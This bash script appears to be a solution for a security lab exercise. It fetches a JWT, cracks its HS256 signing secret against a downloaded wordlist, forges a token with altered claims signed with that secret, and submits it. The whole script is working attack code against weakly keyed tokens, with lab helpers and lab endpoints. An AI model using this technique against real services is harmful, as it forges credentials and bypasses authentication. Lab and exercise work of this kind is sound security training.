#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at shipped-secret token)")"
header="$(printf '%s' "$token" | part 1)"
signed="$(printf '%s' "$token" | cut -d. -f1,2)"
tag="$(printf '%s' "$token" | part 3)"
while read -r word; do
    [ -n "$word" ] || continue
    secret="$(printf '%s' "$word" | hex)"
    if [ "$(hs256 "$signed" "$secret")" = "$tag" ]; then
        input="$header.$(claims "$token")"
        send shipped-secret "$input.$(hs256 "$input" "$secret")"
        exit
    fi
done < <(curl -s "$LAB/words.txt")
echo "no word fits" >&2
exit 1
